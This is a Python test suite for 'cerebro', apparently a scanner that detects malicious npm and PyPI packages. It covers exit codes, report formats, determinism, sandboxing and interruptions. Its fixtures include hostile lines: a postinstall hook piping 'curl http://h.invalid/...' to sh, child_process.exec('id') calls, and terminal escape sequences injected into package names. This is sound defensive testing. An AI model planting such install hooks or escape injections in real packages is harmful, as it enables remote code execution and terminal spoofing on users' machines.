#!/usr/bin/env python3
"""Checks what other programs rely on: exit codes, formats, order, determinism, errors.

    cli_test.py BINARY
"""
import array
import atexit
import json
import os
import shutil
import signal
import subprocess
import sys
import tarfile
import tempfile
import time
import unittest
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
CEREBRO = sys.argv.pop(1) if len(sys.argv) > 1 else "cerebro"
# Not a real judge: four layers of noise that give every package some score.
MODEL = ROOT / "tests" / "data" / "tiny_bert"
CACHE = tempfile.mkdtemp()
atexit.register(shutil.rmtree, CACHE, True)
STEPS = ("archive", "package", "syntax", "behaviour", "callgraph", "sequence")
STEALER = ROOT / "examples" / "malicious" / "npm-install-stealer"
TWIN = ROOT / "examples" / "benign" / "npm-config-client"
FIELDS = ["schema", "target", "ecosystem", "name", "version", "sha256", "verdict", "score", "model",
          "catalogue", "behaviours", "sequence", "notes", "stats", "words"]


def run(*arguments, stdin="", **options):
    environment = {**os.environ, "CEREBRO_MODEL": str(MODEL), "XDG_CACHE_HOME": CACHE}
    return subprocess.run([CEREBRO, *map(str, arguments)], input=stdin.encode(), capture_output=True,
                          env=environment, timeout=120, **options)


def reports(result):
    return [json.loads(line) for line in result.stdout.splitlines()]


def scan(*arguments, **options):
    return reports(run("scan", "--format", "jsonl", *arguments, **options))


def without_times(report):
    report = {**report, "target": None, "stats": {**report["stats"], "ms": None}}
    return report


class Case(unittest.TestCase):
    def setUp(self):
        self.folder = Path(tempfile.mkdtemp())
        self.addCleanup(shutil.rmtree, self.folder)

    def write(self, path, content=""):
        path = self.folder / path
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path

    def tarball(self, name, folder, mode="w:gz"):
        path = self.folder / name
        with tarfile.open(path, mode) as archive:
            archive.add(folder, "package")
        return path


class ExitCodes(Case):
    def code(self, expected, *arguments, **options):
        result = run(*arguments, **options)
        self.assertEqual(result.returncode, expected, (arguments, result.stdout, result.stderr))
        return result

    def test_follow_fail_on_and_threshold(self):
        malicious, clean = ["--threshold", "0"], ["--threshold", "1", "--fail-on", "malicious"]
        self.code(1, "scan", *malicious, STEALER)
        self.code(0, "scan", *clean, STEALER)
        self.code(0, "scan", *malicious, "--fail-on", "never", STEALER)
        self.code(1, "scan", *malicious, "--fail-on", "suspicious", STEALER)

    def test_found_outranks_unread(self):
        missing = self.folder / "missing"
        self.code(3, "scan", missing)
        self.code(3, "scan", "--threshold", "1", STEALER, missing)
        self.code(1, "scan", "--threshold", "0", STEALER, missing)

    def test_usage(self):
        for arguments in (["scan"], ["scan", "--format", "xml", STEALER], ["scan", "--threshold", "2", STEALER],
                          ["scan", "--fail-on", "clean", STEALER], ["scan", "-j", "0", STEALER], ["sacn"], [],
                          ["scan", "--from", self.folder / "missing"], ["dump", "nothing", STEALER],
                          ["scan", "--model", self.folder, STEALER], ["model", "--path", self.folder, "info"]):
            result = self.code(2, *arguments)
            self.assertEqual(result.stdout, b"", arguments)
            self.assertNotEqual(result.stderr, b"", arguments)

    def test_an_unknown_command_is_named(self):
        result = run("scna", "x.tgz")
        self.assertEqual((result.returncode, b"no command is called scna" in result.stderr), (2, True), result.stderr)

    def test_help_and_version(self):
        for arguments in (["--help"], ["scan", "--help"], ["--help-all"], ["--version"]):
            self.assertNotEqual(self.code(0, *arguments).stdout, b"", arguments)
        self.assertEqual(self.code(0, "help", "scan").stdout, self.code(0, "scan", "--help").stdout)
        self.assertEqual(self.code(0, "help").stdout, self.code(0, "--help").stdout)
        self.assertIn(b"Usage: cerebro policy check", self.code(0, "help", "policy", "check").stdout)
        self.assertIn(b"no command is called sacn", self.code(2, "help", "sacn").stderr)
        self.assertIn(b"Usage: cerebro", self.code(2).stderr)
        self.assertIn(b"see `cerebro scan --help`", self.code(2, "scan", "--fromat", "json", STEALER).stderr)

    def test_a_diff_with_what_is_missing_says_so_and_nothing_else(self):
        result = self.code(3, "diff", TWIN, self.folder / "missing")
        self.assertIn(b"new: E0120", result.stdout)
        self.assertNotIn(b"entries", result.stdout)

    def test_full_disk_and_closed_pipe(self):
        with open("/dev/full", "wb") as full:
            result = subprocess.run([CEREBRO, "behaviours"], stdout=full, stderr=subprocess.PIPE)
        self.assertEqual(result.returncode, 3)
        self.assertIn(b"E0703", result.stderr)
        reader, writer = os.pipe()
        os.close(reader)
        result = subprocess.run([CEREBRO, "behaviours"], stdout=writer, stderr=subprocess.PIPE)
        os.close(writer)
        self.assertEqual(result.returncode, 3)
        self.code(3, "scan", "-o", self.folder / "no" / "folder", STEALER)
        # What is found is not said, so this outranks 1.
        self.assertIn(b"E0703", self.code(3, "scan", "--threshold", "0", "-o", "/dev/full", STEALER).stderr)


class Words(Case):
    """The second judge, with a model whose encoder is that of tests/data and whose words are two."""

    def setUp(self):
        super().setUp()
        self.model = self.folder / "model"
        shutil.copytree(Path(__file__).parent / "data/tiny_bert", self.model)
        size = 1 << 17
        weights = array.array("f", [0]) * size
        value = 0xCBF29CE484222325
        for byte in b"steal":
            value = ((value ^ byte) * 0x100000001B3) % (1 << 64)
        weights[(value ^ value >> 29) % size] = 50
        tensors = {"file.bias": array.array("f", [0]), "file.weight": weights, "package.bias": array.array("f", [0]),
                   "package.weight": weights}
        header, data = {}, b""
        for name, values in tensors.items():
            header[name] = {"dtype": "F32", "shape": [len(values)], "data_offsets": [len(data), len(data) + 4 * len(values)]}
            data += values.tobytes()
        text = json.dumps(header).encode()
        (self.model / "words.safetensors").write_bytes(len(text).to_bytes(8, "little") + text + data)

    def package(self, name, files):
        for path, content in {"package.json": '{"name":"a","version":"1.0.0","main":"a.js"}', **files}.items():
            (self.folder / name / path).parent.mkdir(parents=True, exist_ok=True)
            (self.folder / name / path).write_text(content)
        return self.folder / name

    def test_words_add_to_the_score_and_their_lines_are_shown(self):
        target = self.package("p", {"a.js": "require('fs')\nlet x = steal\n"})
        result = run("scan", "--no-cache", "--format", "json", "--model", self.model, "--threshold", "0", target)
        report = json.loads(result.stdout)
        self.assertAlmostEqual(report["words"]["weight"], 0.6 * 2 + 0.3 * 2)  # the most that they may
        self.assertEqual(report["words"]["file"], "a.js")
        self.assertEqual((report["words"]["lines"][0]["line"], report["words"]["lines"][0]["column"]), (2, 9))
        human = run("scan", "--no-cache", "--model", self.model, "--threshold", "0", target).stdout
        self.assertIn(b"speak against it (+1.80), most in a.js:2", human)

    def test_what_shows_no_behaviour_is_not_asked(self):
        report = json.loads(run("scan", "--no-cache", "--format", "json", "--model", self.model,
                                self.package("p", {"a.js": "let x = steal\n"})).stdout)
        self.assertEqual((report["score"], report["words"]["weight"]), (0, 0))

    def test_a_diff_asks_the_words_of_new_files_alone(self):
        calm, bad = "require('fs')\n", "require('fs'); require('http'); let x = steal\n"
        def new_score(old, new):
            diff = run("diff", "--format", "json", "--model", self.model, self.package("old", old), self.package("new", new))
            for side in ("old", "new"):
                shutil.rmtree(self.folder / side)
            return json.loads(diff.stdout)["score"]
        fresh = "require('os')\n"
        old_bad = new_score({"a.js": calm, "b.js": bad}, {"a.js": calm, "b.js": bad, "c.js": fresh})
        new_bad = new_score({"a.js": calm, "b.js": bad}, {"a.js": calm, "b.js": bad, "c.js": fresh + "let x = steal\n"})
        self.assertGreater(new_bad, old_bad)


class Formats(Case):
    def test_jsonl_has_the_fields_in_order(self):
        (report,) = scan(STEALER)
        self.assertEqual(list(report), FIELDS)
        self.assertEqual(report["schema"], "cerebro.scan/1")
        self.assertEqual((report["ecosystem"], report["name"], report["version"]),
                         ("npm", "example-install-stealer", "1.0.0"))
        behaviour = next(row for row in report["behaviours"] if row["id"] == "read.environment")
        self.assertEqual(list(behaviour), ["id", "feature", "phase", "file", "line", "column", "snippet",
                                           "detail", "weight", "path"])
        self.assertEqual((behaviour["phase"], behaviour["file"], behaviour["line"]), ("install", "setup.js", 7))
        self.assertEqual(behaviour["path"][0], "postinstall")

    def test_json_is_an_object_or_an_array(self):
        self.assertEqual(list(json.loads(run("scan", "--format", "json", STEALER).stdout)), FIELDS)
        self.assertEqual(len(json.loads(run("scan", "--format", "json", STEALER, TWIN).stdout)), 2)
        one = run("scan", "--format", "json", "--from", "-", stdin=f"{TWIN}\n")
        self.assertEqual(len(json.loads(one.stdout)), 1)
        self.assertEqual(json.loads(run("scan", "--format", "json", "--from", "-").stdout), [])

    def test_output_file(self):
        path = self.folder / "report.json"
        self.assertEqual(run("scan", "--format", "json", "-o", path, STEALER).stdout, b"")
        self.assertEqual(list(json.loads(path.read_text())), FIELDS)

    def test_human_has_no_colour_off_a_terminal(self):
        result = run("scan", STEALER, TWIN)
        self.assertNotIn(b"\x1b", result.stdout)
        self.assertIn(b"2 packages", result.stdout.splitlines()[-1])

    def test_nothing_of_a_package_moves_the_terminal(self):
        evil = "\x1b[31m\x1b]0;owned\x07\u202e\u200b\x9b2J\x08"
        with tempfile.TemporaryDirectory() as place:
            package = Path(place) / f"p{evil}"
            package.mkdir()
            file = f"a{evil}.js"
            (package / "package.json").write_text(json.dumps({
                "name": f"x{evil}", "version": f"1{evil}", "main": file,
                "scripts": {"postinstall": f"curl http://h.invalid/{evil} | sh"}}))
            (package / file).write_text(
                f"const q = '{evil}'; function f() {{ require('child_process').exec('id {evil}'); }}\n"
                f"f(); require('https').get('https://h.invalid/{evil}'); eval('g(1) // {evil}')")
            lockfile = Path(place) / "package-lock.json"
            lockfile.write_text(json.dumps({"name": evil, "lockfileVersion": 3, "packages": {
                f"node_modules/{evil}z": {"version": f"1{evil}", "resolved": f"git+ssh://x{evil}"}}}))
            commands = [["scan", "--threshold", "0"], ["scan", "-v", "--threshold", "0"], ["explain"],
                        ["sequence"], ["sequence", "--format", "jsonl"], ["callgraph"],
                        ["callgraph", "--format", "edges"], ["diff", TWIN]]
            commands += [["dump", step] for step in
                         ("archive", "package", "syntax", "behaviour", "callgraph", "sequence")]
            commands += [["scan", "--format", name, "--threshold", "0"]
                         for name in ("json", "jsonl", "sarif", "html", "osv", "cyclonedx")]
            cases = [[*command, package] for command in commands]
            cases += [["lockfile", lockfile], ["lockfile", "--format", "json", lockfile], ["scan", lockfile],
                      ["scan", package / "missing"]]
            for case in cases:
                result = run(*case)
                self.assertTrue(result.stdout or result.stderr, case)
                for text in (result.stdout.decode(), result.stderr.decode()):
                    moves = {c for c in text if (c < " " and c != "\n") or "\x7f" <= c <= "\x9f"
                             or c in "\u202e\u200b"}
                    self.assertEqual(moves, set(), case)

    def test_hostile_bytes_stay_valid(self):
        name = b"b\xff\x1b[2J.js"
        (self.folder / "p").mkdir()
        with open(os.path.join(os.fsencode(self.folder), b"p", name), "wb") as file:
            file.write(b"eval('\x1b[31m\xff' + require('child_process').exec('\xe2\x80\xae id'))\n")
        result = run("scan", "--format", "jsonl", self.folder / "p")
        self.assertEqual(len(reports(result)), 1)
        result.stdout.decode()
        for command in (["scan", "--threshold", "0"], ["explain"]):
            self.assertNotIn(b"\x1b", run(*command, self.folder / "p").stdout)
        for command in (["callgraph"], ["callgraph", "--format", "edges"], ["sequence"],
                        *(["dump", step] for step in STEPS)):
            self.assertNotIn(b"\x1b", run(*command, self.folder / "p").stdout, command)

    def test_sequence(self):
        result = run("sequence", "--format", "jsonl", STEALER)
        (line,) = reports(result)
        self.assertEqual(list(line)[:6], ["target", "sha256", "ecosystem", "name", "version", "entries"])
        text = run("sequence", STEALER).stdout.decode().rstrip("\n")
        self.assertEqual(text.split("\n"), line["entries"])
        self.assertTrue(text.startswith("start entry install, run at install"))
        roots = run("sequence", "--roots", STEALER).stdout
        self.assertIn(b"read sensitive information", roots)
        self.assertNotIn(b"run at install", roots)

    def test_every_step_has_a_dump(self):
        for step in STEPS:
            result = run("dump", step, STEALER)
            self.assertEqual(result.returncode, 0, step)
            self.assertNotEqual(result.stdout, b"", step)

    def test_sandbox_shows_the_same(self):
        lockfile = next((ROOT / "tests" / "lockfiles" / "npm3").glob("*.json"))
        for command in (["sequence", STEALER], ["sequence", "--format", "jsonl", STEALER], ["callgraph", STEALER],
                        ["dump", "syntax", STEALER], ["lockfile", lockfile], ["lockfile", "--format", "json", lockfile],
                        ["sequence", "--format", "jsonl", "/does/not/exist"], ["dump", "syntax", "/does/not/exist"]):
            inside, here = run(*command), run(*command, "--no-sandbox")
            self.assertEqual((inside.returncode, inside.stdout, inside.stderr),
                             (here.returncode, here.stdout, here.stderr), command)

    def test_callgraph(self):
        graph = json.loads(run("callgraph", STEALER).stdout)
        self.assertIn("setup.collect", graph["setup"])
        self.assertIn("os.hostname", graph["setup.collect"])
        edges = run("callgraph", "--format", "edges", STEALER).stdout.decode().splitlines()
        self.assertIn("setup.js:global:30 -> setup.js:collect:6", edges)

    def test_behaviours_and_model(self):
        table = json.loads(run("behaviours", "--format", "json").stdout)
        self.assertEqual(len({row["feature"] for row in table["behaviours"]}), 16)
        self.assertEqual(len(run("behaviours").stdout.splitlines()), len(table["behaviours"]))
        self.assertIn(b"parameters", run("model", "info").stdout)
        self.assertTrue(run("model", "verify").stdout.startswith(b"ok "))


class Batches(Case):
    def test_one_line_each_in_input_order_whatever_goes_wrong(self):
        good = self.tarball("good.tgz", STEALER)
        cut = self.write("cut.tgz", good.read_bytes()[:-200])
        empty = self.write("empty.tgz")
        nothing = self.folder / "nothing"
        nothing.mkdir()
        loose = self.write("loose/a.py", "import os\nos.system('id')\n").parent
        targets = [good, cut, empty, self.folder / "missing", nothing, loose, "npm:left pad", good]
        result = run("scan", "--format", "jsonl", "--threshold", "1", "--from", "-", TWIN,
                     stdin="".join(f"{target}\n" for target in targets))
        self.assertEqual(result.returncode, 3)
        lines = reports(result)
        self.assertEqual([line["target"] for line in lines], [str(TWIN), *map(str, targets)])
        codes = [{note["code"] for note in line["notes"]} for line in lines]
        for index, code in ((2, "E0102"), (4, "E0120"), (5, "E0103"), (6, "E0201"), (7, "E0820")):
            self.assertIn(code, codes[index], lines[index])
        for index in (2, 3, 4, 5, 7):
            self.assertNotEqual(lines[index]["verdict"], "clean", lines[index])
        self.assertNotEqual(codes[3], set())

    def test_a_text_file_is_not_clean_but_a_package_of_data_is(self):
        (text,) = scan(self.write("notes.txt", "hello"))
        self.assertEqual(text["verdict"], "incomplete")
        data = self.write("data/package.json", '{"name": "data", "version": "1.0.0"}').parent
        (package,) = scan(data)
        self.assertEqual((package["verdict"], package["score"]), ("clean", 0.0))

    def test_the_same_input_gives_the_same_bytes(self):
        first = self.folder / "one" / "package"
        second = self.folder / "two" / "deeper" / "package"
        for copy in (first, second):
            shutil.copytree(STEALER, copy)
        archives = [self.tarball(f"{name}.tgz", STEALER) for name in ("a", "b")]
        archives[1].write_bytes(archives[0].read_bytes())
        for pair in ((first, second), archives):
            results = [scan("-j", jobs, target) for target in pair for jobs in (1, 2)]
            self.assertEqual(len({json.dumps(without_times(one)) for (one,) in results}), 1)
        # A directory has another digest than its archive; all else is the same.
        (archive,), (directory,) = scan(archives[0]), scan(first.parent)
        for report in (archive, directory):
            report["sha256"] = None
        self.assertEqual(without_times(archive), without_times(directory))
        many = [STEALER, TWIN] * 20
        self.assertEqual([without_times(one) for one in scan("-j", 1, *many)],
                         [without_times(one) for one in scan("-j", 4, *many)])

    def test_password(self):
        # Made by zip -P secret: Python's zipfile cannot encrypt.
        if shutil.which("zip") is None:
            self.skipTest("zip is not installed")
        path = self.folder / "sample.zip"
        subprocess.run(["zip", "-qrP", "secret", path, "."], cwd=STEALER, check=True)
        (locked,) = scan(path)
        self.assertIn("E0110", {note["code"] for note in locked["notes"]})
        (opened,) = scan("--archive-password", "secret", path)
        self.assertEqual(opened["notes"], [])
        self.assertEqual(opened["name"], "example-install-stealer")

    def test_deep_nesting_costs_one_target_at_most(self):
        package = self.write("deep/index.js", "(" * 200_000 + "1" + ")" * 200_000).parent
        self.write("deep/a.py", "x = " + "[" * 100_000 + "]" * 100_000)
        self.write("deep/b.js", "a" + "+a" * 300_000)
        self.write("deep/c.js", "if (a) " * 50_000 + "b()")
        lines = scan(package, TWIN)
        self.assertEqual(len(lines), 2)
        self.assertEqual(lines[1]["name"], "example-config-client")


class Expansion(Case):
    """A lockfile and an installed tree stand for each of their packages."""

    def test_of_an_installed_tree(self):
        modules = self.folder / "node_modules"
        for name, source in (("stealer", STEALER), ("twin", TWIN)):
            shutil.copytree(source, modules / name)
        self.write("node_modules/.package-lock.json", "{}")
        result = run("scan", "--format", "json", "--threshold", "1", modules)
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertEqual([report["target"] for report in json.loads(result.stdout)],
                         [str(modules / "stealer"), str(modules / "twin")])
        alone = scan("--threshold", "1", STEALER)[0]
        self.assertEqual(without_times(alone), without_times(json.loads(result.stdout)[0]))

    def test_of_a_lockfile(self):
        shutil.copytree(TWIN, self.folder / "local")
        lockfile = self.write("requirements.txt", "six==1.17.0\n./local\ngit+https://code.example/r\n")
        result = run("scan", "--format", "jsonl", "--threshold", "1", "--retries", "0", "--no-cache",
                     "--pypi-index", "http://127.0.0.1:1/simple", lockfile)
        self.assertEqual(result.returncode, 3)
        found = [(report["target"], report["verdict"], [note["code"] for note in report["notes"]])
                 for report in reports(result)]
        self.assertEqual(found[0], ("pypi:six==1.17.0", "incomplete", ["E0823"]))
        self.assertEqual(found[1][:2], (str(self.folder / "local"), "clean"))
        self.assertEqual(found[2], ("pypi:r", "incomplete", ["E0808"]))

    def test_shows_a_lockfile(self):
        lockfile = self.write("requirements.txt", "six==1.17.0 --hash=sha256:aa\n-r gone.txt\n")
        result = run("lockfile", lockfile)
        self.assertEqual(result.returncode, 3)
        self.assertEqual(result.stdout.decode().splitlines()[:2],
                         ["# requirements", "1:1 pypi:six==1.17.0 registry sha256:aa"])
        shown = json.loads(run("lockfile", "--format", "json", lockfile).stdout)
        self.assertEqual([package["line"] for package in shown["packages"]], [1])
        self.assertEqual(run("lockfile", self.write("x.json", "{}")).returncode, 3)


def children(pid):
    """Pids below a process, from /proc."""
    below = []
    for entry in os.listdir("/proc"):
        try:
            parent = int(Path("/proc", entry, "stat").read_text().rpartition(")")[2].split()[1])
        except (OSError, IndexError, ValueError):
            continue
        if parent == pid:
            below += [int(entry), *children(int(entry))]
    return below


class Isolation(Case):
    def test_doctor_says_what_holds(self):
        result = run("doctor", "--format", "json")
        told = json.loads(result.stdout)
        self.assertEqual((result.returncode, told["ok"]), (0, True), told)
        checks = {check["id"]: check for check in told["checks"]}
        for check in ("open_a_socket", "run_a_program", "read_/etc/passwd", "model", "worker"):
            self.assertTrue(checks[check]["holds"], checks[check])
        text = run("doctor").stdout.decode()
        self.assertIn("a worker cannot open a socket: the system call socket was refused", text)

    def test_with_and_without_give_the_same(self):
        examples = sorted((ROOT / "examples").glob("*/*/"))
        archives = [self.tarball(f"{i}.tgz", example) for i, example in enumerate(examples)]
        accents = self.write("accents/package.json", '{"name": "\u00e9", "scripts": {"install": "node \u00e9.js"}}').parent
        self.write("accents/\u00e9.js", "require('child_process').exec('id')")
        with zipfile.ZipFile(self.folder / "accents.zip", "w") as archive:
            for file in accents.iterdir():
                archive.write(file, f"p/{file.name}")
        archives += [accents, self.folder / "accents.zip", self.tarball("accents.tgz", accents), self.write("x.py", "eval(a)")]
        inside, outside = scan(*archives), scan("--no-sandbox", *archives)
        self.assertEqual([without_times(one) for one in inside], [without_times(one) for one in outside])
        explained = [run("explain", *flag, archives[0]).stdout for flag in ([], ["--no-sandbox"])]
        self.assertEqual(explained[0], explained[1])

    def test_a_killed_worker_costs_one_package(self):
        slow = self.write("slow/index.js", "".join(f"f{i}({{a: [{i}, x.y('z')]}});\n" for i in range(120_000))).parent
        scanner = subprocess.Popen([CEREBRO, "scan", "-j1", "--format", "jsonl", TWIN, slow, TWIN], stdout=subprocess.PIPE,
                                   env={**os.environ, "CEREBRO_MODEL": str(MODEL)})
        self.addCleanup(scanner.stdout.close)
        first = json.loads(scanner.stdout.readline())
        time.sleep(0.2)
        forker, *workers = children(scanner.pid)
        for worker in workers:
            os.kill(worker, signal.SIGKILL)
        killed, last = (json.loads(line) for line in scanner.stdout.read().splitlines())
        self.assertEqual(scanner.wait(), 3)
        self.assertEqual([note["code"] for note in killed["notes"]], ["E0710"])
        self.assertEqual(killed["verdict"], "incomplete")
        self.assertEqual(without_times(first), without_times(last))


class Interruptions(Case):
    def start(self, *arguments, **options):
        return subprocess.Popen([CEREBRO, "scan", "--format", "jsonl", *map(str, arguments)],
                                env={**os.environ, "CEREBRO_MODEL": str(MODEL)}, **options)

    def test_sigint_prints_what_is_done(self):
        many = self.write("many", f"{TWIN}\n" * 20_000)
        scanner = self.start("-j2", "--from", many, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        first = scanner.stdout.readline()
        scanner.send_signal(signal.SIGINT)
        lines = [first, *scanner.stdout.read().splitlines()]
        self.assertEqual(scanner.wait(), 3)
        self.assertIn(b"interrupted", scanner.stderr.read())
        scanner.stdout.close()
        scanner.stderr.close()
        self.assertLess(len(lines), 2_000)  # what is under way, not all that was fetched ahead
        for line in lines:
            self.assertEqual(json.loads(line)["target"], str(TWIN))

    def test_resume(self):
        copies = [self.tarball(f"{i}.tgz", TWIN) for i in range(5)]
        done, whole = self.folder / "done.jsonl", scan(*copies)
        self.assertEqual(run("scan", "--format", "jsonl", "--resume", done, *copies[:2]).returncode, 0)
        with open(done, "ab") as file:
            file.write(b'{"schema": "cerebro.scan/1", "target": "to')
        run("scan", "--format", "jsonl", "--resume", done, *copies)
        lines = [json.loads(line) for line in done.read_text().splitlines()]
        self.assertEqual([line["target"] for line in lines], [line["target"] for line in whole])
        self.assertEqual([without_times(line) for line in lines], [without_times(line) for line in whole])
        other = self.write("other.txt", "not a report\n")
        result = run("scan", "--format", "jsonl", "--resume", other, *copies)
        self.assertEqual((result.returncode, other.read_text()), (3, "not a report\n"))
        self.assertEqual(run("scan", "--resume", done, TWIN).returncode, 2)

    def test_limits(self):
        (cut,) = scan("--limit", "archive_entries=1", "--limit", "file_bytes=1000000", STEALER)
        self.assertIn("E0106", {note["code"] for note in cut["notes"]})
        for wrong in ("archive_entries", "nothing=1", "ratio=x"):
            result = run("scan", "--limit", wrong, STEALER)
            self.assertEqual((result.returncode, result.stdout), (2, b""), wrong)
        (late,) = scan("--limit", "package_ms=0", STEALER)
        self.assertEqual([note["code"] for note in late["notes"]], ["E0713"])


if __name__ == "__main__":
    unittest.main()
